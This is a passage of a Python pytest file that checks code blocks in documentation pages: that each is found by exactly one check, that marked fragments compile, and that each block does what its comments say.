    assert len(checks) <= 1, f"{block.id}: more than one check finds this block"
    assert checks or block.fragment, (
        f"{block.id} is neither run by a test nor marked: give it a Check in {Path(__file__).name}, "
        "or put <!-- fragment: why --> on the line before its fence"
    )


@pytest.mark.parametrize("check", CHECKS, ids=lambda c: f"{c.page}:{c.needle[:30]}")
def test_each_check_finds_exactly_one_block(check):
    _block_of(check)


@pytest.mark.parametrize("block", [b for b in BLOCKS if b.fragment], ids=lambda b: b.id)
def test_a_fragment_compiles(block):
    import ast

    if any(c.test is op_tool_options for c in _checks_of(block)):
        pytest.skip("not Python: the options of @op.tool, checked against its signature")
    compile(block.code, block.id, "exec", flags=ast.PyCF_ALLOW_TOP_LEVEL_AWAIT)


@pytest.mark.parametrize(
    "check", [c for c in CHECKS if c.elsewhere], ids=lambda c: f"{c.page}:{c.needle[:30]}"
)
def test_a_block_run_by_another_test_is_the_text_that_test_runs(check):
    assert check.elsewhere() == _block_of(check).code


@pytest.mark.parametrize("check", [c for c in CHECKS if c.test], ids=lambda c: _block_of(c).id)
def test_the_block_does_what_its_comments_say(check, tmp_path):
    for need in check.needs:
        require(MODULES.get(need, need))
    check.test(_block_of(check), tmp_path)
